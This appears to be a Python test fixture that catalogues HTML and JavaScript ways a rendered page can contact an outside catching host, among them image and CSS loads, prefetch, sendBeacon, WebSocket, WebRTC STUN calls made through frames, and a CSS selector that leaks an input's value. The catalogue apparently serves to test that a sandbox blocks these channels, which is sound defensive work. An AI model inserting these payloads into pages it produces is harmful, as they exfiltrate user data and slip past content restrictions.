# ruff: noqa: E501 (markup of one way is one line)
"""The ways by which a page that a browser shows can tell somebody else something.

Each is markup with `$HTTP` in the place of an address of the catcher's, `$NAME` of a host name that
only a resolver would be asked for. `#go` is clicked, where there is one.
"""

MARKUP = {
    "image": '<img src="$HTTP">',
    "image set": '<img srcset="$HTTP 1x">',
    "picture": '<picture><source srcset="$HTTP"><img alt=""></picture>',
    "image button": '<form><input type="image" src="$HTTP"></form>',
    "background attribute": '<table background="$HTTP"><tr><td>x</table>',
    "style attribute": '<p style="background: url($HTTP)">x</p>',
    "style sheet": '<style>body { background: url("$HTTP") }</style>',
    "style import": '<style>@import "$HTTP";</style>',
    "style image set": '<style>p { background: image-set("$HTTP" 1x) }</style><p>x',
    "style content": '<style>p::before { content: url("$HTTP") }</style><p>x',
    "style cursor": '<style>body { cursor: url("$HTTP"), auto }</style><p id="go">x',
    "style mask": '<style>p { mask: url("$HTTP") }</style><p>x',
    "style of a selector": '<style>input[value^="s"] { background: url("$HTTP") }</style><input value="secret">',
    "font": '<style>@font-face { font-family: f; src: url("$HTTP") } p { font-family: f }</style><p>x',
    "linked style": '<link rel="stylesheet" href="$HTTP">',
    "prefetch": '<link rel="prefetch" href="$HTTP">',
    "preload": '<link rel="preload" as="image" href="$HTTP">',
    "module preload": '<link rel="modulepreload" href="$HTTP">',
    "preconnect": '<link rel="preconnect" href="http://$NAME">',
    "DNS prefetch": '<link rel="dns-prefetch" href="//$NAME">',
    "refresh": '<meta http-equiv="refresh" content="0; url=$HTTP">',
    "frame": '<iframe src="$HTTP"></iframe>',
    "frame in a frame": "<iframe srcdoc='<img src=\"$HTTP\">'></iframe>",
    "object": '<object data="$HTTP"></object>',
    "embed": '<embed src="$HTTP">',
    "video": '<video src="$HTTP" autoplay></video>',
    "poster": '<video poster="$HTTP"></video>',
    "audio": '<audio src="$HTTP" autoplay></audio>',
    "track": '<video src="data:video/mp4," autoplay><track default kind="captions" src="$HTTP"></video>',
    "SVG image": '<svg><image href="$HTTP" width="9" height="9"/></svg>',
    "SVG filter": '<svg><filter id="f"><feImage href="$HTTP"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
    "base": '<base href="$HTTP/"><img src="from-base">',
    "script": '<script src="$HTTP"></script>',
    "report": '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri $HTTP"><img src="/x">',
    "link": '<a id="go" href="$HTTP">x</a>',
    "ping": '<a id="go" href="#" ping="$HTTP">x</a>',
    "form": '<form action="$HTTP"><button id="go">x</button></form>',
    "form of another": '<form><button id="go" formaction="$HTTP" formmethod="post">x</button></form>',
}
"""Without scripts."""

RTC = "new RTCPeerConnection({iceServers: [{urls: 'stun:$NAME:3478'}]})"
OFFER = (
    f"let p = {RTC}; p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o))"
)
SCRIPTS = {
    "fetch": "fetch('$HTTP', {mode: 'no-cors'})",
    "kept fetch": "fetch('$HTTP', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})",
    "XMLHttpRequest": "let x = new XMLHttpRequest(); x.open('GET', '$HTTP'); x.send()",
    "beacon": "navigator.sendBeacon('$HTTP', 'x')",
    "WebSocket": "new WebSocket('$HTTP'.replace('http', 'ws'))",
    "EventSource": "new EventSource('$HTTP')",
    "new image": "new Image().src = '$HTTP'",
    "new audio": "new Audio('$HTTP').play()",
    "new font": "new FontFace('g', 'url($HTTP)').load()",
    "new style": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: '$HTTP'}))",
    "new prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: '$HTTP'}))",
    "new DNS prefetch": "document.head.append(Object.assign(document.createElement('link'), {rel: 'dns-prefetch', href: '//$NAME'}))",
    "new script": "document.head.append(Object.assign(document.createElement('script'), {src: '$HTTP'}))",
    "import": "import('$HTTP').catch(() => 0)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`importScripts('$HTTP')`])))",
    "speculation": "document.head.append(Object.assign(document.createElement('script'), {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: ['$HTTP'], eagerness: 'immediate'}]})}))",
    "location": "location = '$HTTP'",
    "location of a link": "Object.assign(document.createElement('a'), {href: '$HTTP'}).click()",
    "location of the page": "top.location = '$HTTP'",
    "location as script": "location = 'javascript:location=\"$HTTP\"'",
    "location as data": "location = 'data:text/html,<img src=\"$HTTP\">'",
    "location as blob": "location = URL.createObjectURL(new Blob(['<img src=\"$HTTP\">'], {type: 'text/html'}))",
    "window": "window.open('$HTTP')",
    "sent form": "let f = document.body.appendChild(Object.assign(document.createElement('form'), {action: '$HTTP'})); f.submit()",
    "written": "document.write('<img src=\"$HTTP\">')",
    "new frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: '$HTTP'}))",
    "WebTransport": "new WebTransport('https://$NAME:4433')",
    "WebRTC": OFFER,
    "WebRTC under its old name": OFFER.replace("RTCP", "webkitRTCP"),
    "WebRTC in a frame": f"document.body.append(Object.assign(document.createElement('iframe'), {{srcdoc: `<script>{OFFER}</` + `script>`}}))",
    "WebRTC of a frame": f"let w = document.body.appendChild(document.createElement('iframe')).contentWindow; let RTCPeerConnection = w.RTCPeerConnection; {OFFER}",
    "WebRTC in a new page": f"location = URL.createObjectURL(new Blob([`<script>{OFFER}</` + `script>`], {{type: 'text/html'}}))",
    "WebRTC in a script address": f"document.body.append(Object.assign(document.createElement('iframe'), {{src: `javascript:'<script>{OFFER.replace(chr(39), '&quot;')}</' + 'script>'`}}))",
}
"""With scripts, after a click."""


def page(way: str, http: str, name: str) -> str:
    """Return the markup of one way out."""
    body = MARKUP[way] if way in MARKUP else f"<body><script>{SCRIPTS[way]}</script>"
    return body.replace("$HTTP", http).replace("$NAME", name)
